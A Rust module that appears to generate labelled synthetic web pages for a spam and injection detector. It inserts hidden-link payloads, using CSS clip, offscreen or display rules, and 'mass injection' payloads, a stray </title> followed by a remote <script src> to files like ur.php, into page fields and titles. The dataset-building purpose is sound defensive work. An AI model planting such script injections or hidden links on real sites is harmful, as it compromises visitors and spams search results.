//! Family E: hidden by a style rule, and payloads appended to database fields.
use super::catalogue::Job;
use super::dice::Dice;
use super::draft::Label;
use super::hide::Hide;
use super::links;
use super::markup::entities;
use super::place::Place;
use super::words;

/// Most fields of one page that carry a payload.
const MOST_FIELDS: usize = 6;

/// Puts the same payload into one or several text fields; now and then also into the title.
fn into_fields(job: &mut Job<'_, '_>, payload: &str) -> bool {
    let label = job.label();
    let mut done = false;
    let wanted = job.page.range(1..=MOST_FIELDS);
    for _ in 0..wanted {
        let Some(at) = job.spot(&[(Place::Field, 6), (Place::Boundary, 1)]) else { break };
        // A field can be hit twice or more: the copies then stand side by side, each with its own span.
        for _ in 0..*job.page.weighted(&[(1, 8), (2, 1), (4, 1)]) {
            done |= job.draft.insert(at, payload, Some(label));
        }
    }
    if job.page.chance(0.2)
        && let Some(text) = job.draft.marks.title_text.clone()
    {
        done |= job.draft.insert(text.end, payload, Some(label));
    }
    done
}

/// T25: stray `</title>`, a style with a clip, one link.
pub(crate) fn field_style(job: &mut Job<'_, '_>) -> bool {
    let (kit, dice) = (job.kit, &mut job.block);
    let length = dice.range(2..=5);
    let class = dice.letters("abcdefghijklmnopqrstuvwxyz", 1)
        + &dice.letters("abcdefghijklmnopqrstuvwxyz0123456789", length);
    let hide = *dice.weighted(&[(Hide::Clip, 6), (Hide::Offscreen, 2), (Hide::Display, 1), (Hide::Thin, 1)]);
    let rule = hide.rule(dice);
    let start = dice.weighted_word(&[("</title>", 7), ("", 2), ("\"></title>", 1), ("</textarea>", 1)]);
    let word = kit.keyword(dice);
    let url = kit.url(dice, &word);
    let payload = match dice.range(0..=2) {
        0..=1 => {
            format!("{start}<style>.{class}{rule}</style><div class={class}><a href={url} >{word}</a></div>")
        }
        _ => {
            let link = kit.link_to(dice, &word, &[]);
            let inside = kit.markup.wrap(dice.word(&["div", "span", "p"]), &[("class", &class)], &link);
            format!("{start}<style type=\"text/css\">.{class}{rule}</style>{inside}")
        }
    };
    into_fields(job, &payload)
}

/// The mass injection of 2008–11: stray `</title>` and a remote script in every field.
pub(crate) fn field_script(job: &mut Job<'_, '_>) -> bool {
    const FILES: [&str; 8] = ["ur.php", "b.js", "js.js", "x.js", "0.js", "sl.php", "jquery.js", "r.php"];
    let (kit, dice) = (job.kit, &mut job.block);
    let host = kit.host(dice);
    let file =
        if dice.chance(0.6) { dice.word(&FILES).to_owned() } else { format!("{}.js", words::name(dice)) };
    let url = format!("http://{host}/{file}");
    let start = dice.weighted_word(&[("</title>", 6), ("\"></title>", 3), ("", 1)]);
    let payload = match dice.range(0..=4) {
        0..=2 => format!("{start}<script src={url}></script>"),
        3 => format!("{start}<script src=\"{url}\"></script><!--"),
        _ => format!(
            "{start}<script src=\"{}\" type=\"text/javascript\"></script>",
            entities(&url, false, false)
        ),
    };
    // An open comment would take the rest of the page with it; closing it keeps the shape and the page.
    let payload = if payload.ends_with("<!--") { payload + "-->" } else { payload };
    into_fields(job, &payload)
}

/// T27: a class or id whose rule hides it; the rule next to it or far up in the head.
pub(crate) fn class_rule(job: &mut Job<'_, '_>) -> bool {
    let (kit, dice) = (job.kit, &mut job.block);
    let name = kit.identifier("rule");
    let by_id = dice.chance(0.3);
    let (mark, key) = if by_id { ("#", "id") } else { (".", "class") };
    let hide = *dice.pick(&Hide::ANY);
    let rule = format!("{mark}{name}{}", hide.rule(dice));
    let style = style_element(dice, &rule);
    let count = dice.log_range(1..=40);
    let inside = links::run(dice, kit, count);
    let gap = kit.markup.gap;
    let tag = dice.weighted_word(&[("div", 10), ("span", 2), ("p", 2), ("ul", 1)]);
    let block = kit.markup.wrap(tag, &[(key, &name)], &format!("{gap}{inside}{gap}"));
    if dice.chance(0.6) {
        let whole =
            if dice.chance(0.8) { format!("{style}{gap}{block}") } else { format!("{block}{gap}{style}") };
        return job.put(&links::ANYWHERE, &whole);
    }
    if !job.put(&links::ANYWHERE, &block) {
        return false;
    }
    let label = Label { technique: "T27-rule", ..job.label() };
    if let Some(at) = job.spot(&[(Place::Head, 3), (Place::BodyTop, 1), (Place::Boundary, 1)]) {
        job.draft.insert(at, &style, Some(label));
    }
    true
}

pub(crate) fn style_element(dice: &mut Dice, rule: &str) -> String {
    let kind = dice.word(&["", "", " type=\"text/css\""]);
    let space = dice.word(&["", " ", "\n"]);
    format!("<style{kind}>{space}{rule}{space}</style>")
}
